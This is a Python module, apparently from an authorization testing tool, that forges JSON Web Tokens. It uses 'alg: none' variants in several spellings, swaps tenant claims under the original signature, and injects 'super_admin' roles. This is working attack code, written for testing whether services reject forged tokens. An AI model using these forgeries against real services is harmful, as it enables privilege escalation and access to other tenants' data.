"""Tokens changed on purpose, as an attacker would: built openly, since a JOSE library refuses to make them."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from stagecheck.errors import StagecheckError
from stagecheck.model import Identity


class NotAToken(StagecheckError):
    """The credential is no JWT, so nothing can be forged from it."""


def forge(token: str, identity: Identity, tenant_claim: str = "tenant_id") -> str:
    """The token changed as `identity.forge` says, naming `identity.other` as its tenant."""
    parts = token.split(".")
    if len(parts) != 3:
        raise NotAToken("the credential is no JWT of three parts")
    header, payload = _read(parts[0]), _read(parts[1])
    if identity.other:
        payload[tenant_claim] = identity.other
    return FORGES[identity.forge](header, payload, parts[2])


def _unsigned(spelling: str) -> Callable[[dict[str, Any], dict[str, Any], str], str]:
    def made(header: dict[str, Any], payload: dict[str, Any], signature: str) -> str:
        return f"{_write({**header, 'alg': spelling})}.{_write(payload)}."

    return made


def _edited(header: dict[str, Any], payload: dict[str, Any], signature: str) -> str:
    return f"{_write(header)}.{_write(payload)}.{signature}"


def _promoted(header: dict[str, Any], payload: dict[str, Any], signature: str) -> str:
    return _edited(header, {**payload, "roles": ["super_admin"], "role": "super_admin"}, signature)


FORGES: dict[str, Callable[[dict[str, Any], dict[str, Any], str], str]] = {
    "alg-none": _unsigned("none"),
    "alg-None": _unsigned("None"),
    "alg-nOnE": _unsigned("nOnE"),
    "edited-tenant": _edited,
    "edited-role": _promoted,
}


def _read(part: str) -> dict[str, Any]:
    try:
        data = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except ValueError:
        raise NotAToken("a part of the credential is not base64 of JSON") from None
    if not isinstance(data, dict):
        raise NotAToken("a part of the credential is not a JSON object")
    return data


def _write(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(data, separators=(",", ":")).encode()).rstrip(b"=").decode()
